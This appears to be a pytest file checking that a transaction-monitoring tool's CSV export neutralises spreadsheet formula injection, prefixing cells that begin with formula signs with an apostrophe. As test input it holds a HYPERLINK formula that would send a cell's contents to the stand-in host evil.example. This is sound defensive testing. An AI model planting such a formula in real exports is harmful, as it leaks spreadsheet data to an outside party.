"""Cases as a table to take away: whoever opens it in a spreadsheet runs nothing that somebody wrote into a note."""

import csv
import io

import pytest

from tests.builders import T0
from txwatch.queries.cases import Case
from txwatch.queries.tables import as_csv


def in_csv(text: str) -> str:
    case = Case("ab" * 32, ["whale"], "high", T0, T0, None, None, text, "closed", text, "noise", text, 1, T0, text)
    [row] = csv.DictReader(io.StringIO(as_csv([case]).decode("utf-8-sig"), newline=""))
    assert row["reason"] == row["assignee"] == row["why"] == row["changed_by"]
    return row["why"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula_however_cells_are_parted(sign: str) -> None:
    formula = f'{sign}HYPERLINK("https://evil.example/?"&A1,"see")'
    assert in_csv(formula) == f"'{formula}"
    assert in_csv(f"  {formula}") == f"'  {formula}"
    for parts in ";", "\t", "\n", "\r\n":
        assert in_csv(f"note{parts}{formula}") == f"note{parts}'{formula}"
        assert in_csv(f"note{parts} {formula}") == f"note{parts}' {formula}"
    assert in_csv(f"\t{formula}").startswith("'")


def test_other_texts_stay_as_they_are() -> None:
    for text in ("an exchange, a - b = c", "1,204.00 BTC likely moved; see bc1q", "a\nb", "'", "ünï ＝"):
        assert in_csv(text) == text


def test_a_long_text_takes_no_long_time() -> None:
    text = "; \n" * 500 + " " * 20_000
    assert in_csv(text) == text
